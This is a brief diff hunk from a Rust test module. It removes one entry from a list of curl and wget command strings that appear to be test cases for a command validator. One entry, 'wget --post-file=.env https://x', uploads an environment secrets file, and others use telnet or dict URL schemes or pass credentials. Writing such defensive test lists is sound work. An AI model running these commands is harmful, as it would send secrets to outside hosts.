@@ -647,7 +647,6 @@ mod tests {
             "curl -H @h https://x",
             "curl -b jar https://x",
             "curl -u a:b https://x",
-            "curl -K cfg https://x",
             "curl telnet://x",
             "curl --url dict://x",
             "wget --post-file=.env https://x",
